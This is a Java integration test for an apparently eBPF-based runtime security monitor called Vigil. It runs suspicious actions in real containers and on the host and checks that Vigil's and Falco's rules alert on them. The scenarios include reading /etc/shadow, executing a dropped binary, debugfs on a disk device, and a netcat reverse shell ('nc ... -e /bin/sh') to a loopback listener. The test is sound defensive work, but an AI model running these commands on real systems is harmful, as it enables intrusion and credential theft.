package dev.vigil.kernel.live;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.event.EventTypes;
import dev.vigil.kernel.Capture;
import dev.vigil.kernel.OpenFilter;
import dev.vigil.kernel.SyscallSource;
import dev.vigil.kernel.capture.CaptureWriter;
import dev.vigil.kernel.capture.Replay;
import dev.vigil.kernel.event.SyscallEvent;
import dev.vigil.kernel.fields.SyscallFields;
import dev.vigil.rules.Alert;
import dev.vigil.rules.AlertValue;
import dev.vigil.rules.Engine;
import dev.vigil.rules.LoadResult;
import dev.vigil.rules.Priority;
import dev.vigil.rules.RulesFile;
import dev.vigil.rules.RulesLoader;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.BitSet;
import java.util.Collection;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The real thing: Vigil's probe in this machine's kernel, real processes on the host and in real
 * runc containers (busybox on overlayfs), and the alerts of Vigil's default rules and of Falco's
 * stable rules, each evaluated with Falco's default first-match semantics. Needs root and a kernel
 * with BTF, as {@code vigil run} does.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class LiveCaptureTest {
  private static final Path ROOT = Path.of(System.getProperty("vigil.root", ".."));
  private static final Path CORPUS =
      Path.of(System.getProperty("vigil.shared", "../shared"), "corpus/falco");
  private static final Duration WAIT = Duration.ofSeconds(15);

  /** An alert as seen by the test. */
  record Seen(String engine, String rule, String containerId, long time, String output) {}

  private final ConcurrentLinkedQueue<Seen> seen = new ConcurrentLinkedQueue<>();
  private Engine<SyscallEvent> vigil;
  private Engine<SyscallEvent> falco;
  private Path captureFile;
  private CaptureWriter writer;
  private Runc runc;
  private Runc.Container web;
  private Runc.Container privileged;
  private Capture capture;
  private long webStarted;

  @BeforeAll
  void start() throws Exception {
    runc = new Runc();
    web = runc.start("vigil-web-" + ProcessHandle.current().pid(), false);
    webStarted = System.nanoTime();
    privileged = runc.start("vigil-priv-" + ProcessHandle.current().pid(), true);

    EventTypes types = SyscallSource.info().eventTypes();
    SyscallFields fields = new SyscallFields(types, "test-host");
    vigil = engine(List.of(ROOT.resolve("rules/vigil_rules.yaml")), fields);
    falco = engine(List.of(CORPUS.resolve("falco_rules.yaml")), fields);
    captureFile = Files.createTempFile("vigil-live-", ".vcap");
    writer = new CaptureWriter(captureFile, types, "test-host", "", "test");
    Set<String> wanted = new LinkedHashSet<>();
    for (Engine<SyscallEvent> e : List.of(vigil, falco)) {
      BitSet codes = e.interestingEventTypes();
      for (int c = codes.nextSetBit(0); c >= 0; c = codes.nextSetBit(c + 1)) {
        wanted.add(types.byCode(c).name());
      }
    }
    // the open filter of both rule sets: replay = live must hold with opens kept in the kernel
    List<dev.vigil.rules.Rule> rules = new ArrayList<>();
    for (Engine<SyscallEvent> e : List.of(vigil, falco)) {
      e.rules().forEach(r -> rules.add(r.rule()));
    }
    capture =
        Capture.start(
            new Capture.Options(wanted, Capture.DEFAULT_RING, true, OpenFilter.forRules(rules)),
            e -> {
              record(vigil, "vigil", e, seen);
              record(falco, "falco", e, seen);
            },
            msg -> {},
            writer);
  }

  private static Engine<SyscallEvent> engine(List<Path> files, SyscallFields fields)
      throws IOException {
    List<RulesFile> rf = new ArrayList<>();
    for (Path p : files) {
      rf.add(new RulesFile(p.getFileName().toString(), Files.readString(p)));
    }
    LoadResult r = new RulesLoader(List.of(SyscallSource.info())).load(rf);
    assertThat(r.errors()).isEmpty();
    return Engine.bind(
        r.ruleset(),
        SyscallSource.info(),
        fields,
        new Engine.Options(
            Engine.Matching.FIRST, Priority.DEBUG, List.of("container.id", "container.name")));
  }

  private static void record(
      Engine<SyscallEvent> engine, String name, SyscallEvent e, Collection<Seen> seen) {
    engine.match(
        e,
        r -> {
          Alert a = r.alert(e, e.timestamp());
          AlertValue id = a.fields().get("container.id");
          seen.add(
              new Seen(
                  name,
                  a.rule(),
                  id instanceof AlertValue.Text t ? t.value() : "",
                  e.timestamp(),
                  a.output()));
        });
  }

  @AfterAll
  void stop() throws Exception {
    try {
      if (capture != null) {
        capture.close();
        writer.finish(capture.stats().drops());
        assertThat(capture.stats().drops()).as("events dropped in the kernel").isZero();
        assertThat(capture.stats().filtered())
            .as("opens and closes the filter kept back")
            .isPositive();
      }
    } finally {
      if (runc != null) {
        runc.close();
      }
    }
    replayingTheCaptureGivesExactlyTheLiveAlerts();
    Files.deleteIfExists(captureFile);
  }

  /**
   * Must-show: a capture of this whole test, replayed, raises exactly the alerts the live run
   * raised (same rules, same order, same outputs), from the same events and state.
   */
  private void replayingTheCaptureGivesExactlyTheLiveAlerts() throws Exception {
    List<Seen> replayed = new ArrayList<>();
    Replay.Summary sum =
        Replay.run(
            captureFile,
            SyscallSource.info().eventTypes(),
            e -> {
              record(vigil, "vigil", e, replayed);
              record(falco, "falco", e, replayed);
            });
    assertThat(sum.complete()).isTrue();
    assertThat(sum.events()).isEqualTo(capture.stats().delivered());
    List<Seen> live = new ArrayList<>(seen);
    assertThat(live).hasSizeGreaterThan(10);
    assertThat(replayed).containsExactlyElementsOf(live);
  }

  // ---- scenarios -------------------------------------------------------------------------------

  enum Where {
    HOST,
    CONTAINER,
    PRIVILEGED
  }

  record Scenario(
      Where where, boolean tty, List<String> command, String vigilRule, String falcoRule) {}

  static Stream<Named<Scenario>> scenarios() {
    return Stream.of(
        scenario(
            "a shell with a terminal in a container",
            new Scenario(
                Where.CONTAINER,
                true,
                List.of("/bin/sh", "-c", "/bin/true"),
                "Shell spawned in container",
                "Terminal shell in container")),
        scenario(
            "/etc/shadow read in a container",
            new Scenario(
                Where.CONTAINER,
                false,
                List.of("/bin/cat", "/etc/shadow"),
                "Sensitive file read by untrusted program",
                "Read sensitive file untrusted")),
        scenario(
            "a package manager run in a container",
            new Scenario(
                Where.CONTAINER,
                false,
                List.of("/bin/dpkg", "-i", "/tmp/tool.deb"),
                "Package management run in container",
                "")),
        scenario(
            "a new binary dropped and executed in a container",
            new Scenario(
                Where.CONTAINER,
                false,
                List.of("/bin/sh", "-c", "/bin/cp /bin/busybox /tmp/dropped && /tmp/dropped true"),
                "Drifted executable run in container",
                "Drop and execute new binary in container")),
        scenario(
            "debugfs in a privileged container",
            new Scenario(
                Where.PRIVILEGED,
                false,
                List.of("/sbin/debugfs", "-w", "/dev/sda1"),
                "Filesystem mount or disk debugger in privileged container",
                "Debugfs Launched in Privileged Container")),
        scenario(
            "/etc/shadow read on the host",
            new Scenario(
                Where.HOST,
                false,
                List.of("/bin/cat", "/etc/shadow"),
                "Sensitive file read by untrusted program",
                "Read sensitive file untrusted")));
  }

  private static Named<Scenario> scenario(String name, Scenario s) {
    return Named.of(name, s);
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("scenarios")
  @Order(1)
  void eachScenarioRaisesTheRightAlert(Scenario s) throws Exception {
    long from = epochNanos();
    String expectedId =
        switch (s.where()) {
          case HOST -> "host";
          case CONTAINER -> web.shortId();
          case PRIVILEGED -> privileged.shortId();
        };
    switch (s.where()) {
      case HOST -> Runc.run(s.command());
      case CONTAINER -> web.exec(s.tty(), s.command().toArray(String[]::new));
      case PRIVILEGED -> privileged.exec(s.tty(), s.command().toArray(String[]::new));
    }
    expect("vigil", s.vigilRule(), expectedId, from);
    if (!s.falcoRule().isEmpty()) {
      expect("falco", s.falcoRule(), expectedId, from);
    }
  }

  /** A reverse shell over a real TCP connection (to a listener of this test on loopback). */
  @Test
  @Order(2)
  void netcatRunningAShellOverTheNetwork() throws Exception {
    long from = epochNanos();
    try (ServerSocket server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
      Thread t =
          Thread.ofVirtual()
              .start(() -> {
                try (Socket s = server.accept();
                    OutputStream out = s.getOutputStream()) {
                  out.write("exit\n".getBytes(StandardCharsets.US_ASCII));
                  out.flush();
                  s.getInputStream().readAllBytes();
                } catch (IOException e) {
                  // the test checks the alerts
                }
              });
      web.exec(
          false, "/bin/nc", "127.0.0.1", Integer.toString(server.getLocalPort()), "-e", "/bin/sh");
      t.join(10_000);
    }
    expect("vigil", "Reverse shell process started", web.shortId(), from);
    expect("vigil", "Standard streams redirected to network socket", web.shortId(), from);
    expect("falco", "Netcat Remote Code Execution in Container", web.shortId(), from);
    expect(
        "falco", "Redirect STDOUT/STDIN to Network Connection in Container", web.shortId(), from);
  }

  /**
   * A write below /etc. Vigil's rule ignores a container's first minute (entrypoints write their
   * configuration), so this runs once the container is older than that.
   */
  @Test
  @Order(3)
  void writeBelowEtcInAnEstablishedContainer() throws Exception {
    long age = System.nanoTime() - webStarted;
    long wait = Duration.ofSeconds(62).toNanos() - age;
    if (wait > 0) {
      Thread.sleep(Duration.ofNanos(wait));
    }
    long from = epochNanos();
    web.exec(false, "/bin/sh", "-c", "echo 'nameserver 10.0.0.1' > /etc/resolv.conf.new");
    expect("vigil", "Write below /etc", web.shortId(), from);
  }

  /**
   * Waits for {@code engine}'s rule to fire in {@code containerId} after {@code from}. Other
   * processes on this machine (other tests, other builds) may raise the same rule meanwhile, so the
   * alert is looked for by rule and container.
   */
  private void expect(String engine, String rule, String containerId, long from)
      throws InterruptedException {
    long deadline = System.nanoTime() + WAIT.toNanos();
    while (System.nanoTime() < deadline) {
      Optional<Seen> hit =
          seen.stream()
              .filter(a ->
                  a.engine().equals(engine)
                      && a.rule().equals(rule)
                      && a.containerId().equals(containerId)
                      && a.time() >= from)
              .findFirst();
      if (hit.isPresent()) {
        assertThat(hit.get().output()).doesNotContain("%");
        return;
      }
      Thread.sleep(50);
    }
    List<String> recent =
        seen.stream()
            .filter(a -> a.time() >= from)
            .map(a -> a.engine() + ": " + a.rule() + " [" + a.containerId() + "]")
            .toList();
    throw new AssertionError(
        engine
            + " rule '"
            + rule
            + "' did not fire in "
            + containerId
            + " within "
            + WAIT
            + "; alerts since: "
            + recent);
  }

  private static long epochNanos() {
    java.time.Instant now = java.time.Instant.now();
    return now.getEpochSecond() * 1_000_000_000L + now.getNano() - 5_000_000L;
  }
}
